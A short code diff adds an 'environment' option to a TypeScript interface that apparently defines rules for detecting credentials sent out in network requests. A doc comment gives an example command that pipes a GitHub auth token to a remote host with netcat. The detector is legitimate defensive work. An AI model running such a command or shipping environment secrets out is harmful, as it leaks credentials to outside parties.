@@ -93,6 +93,8 @@ export interface SendMatch {
    * service's own credential, and so is one sent to a sign-in path (`signIn`).
    */
   readonly env?: readonly string[];
+  /** Interpreter code sending the whole environment counts. */
+  readonly environment?: boolean;
   /** URL paths (wildcards) where a credential in the request is how a client signs in (`*\/oauth/token`). */
   readonly signIn?: readonly string[];
   /** Programs whose output, sent as the request's content, counts (`gh auth token | nc host 443`). */
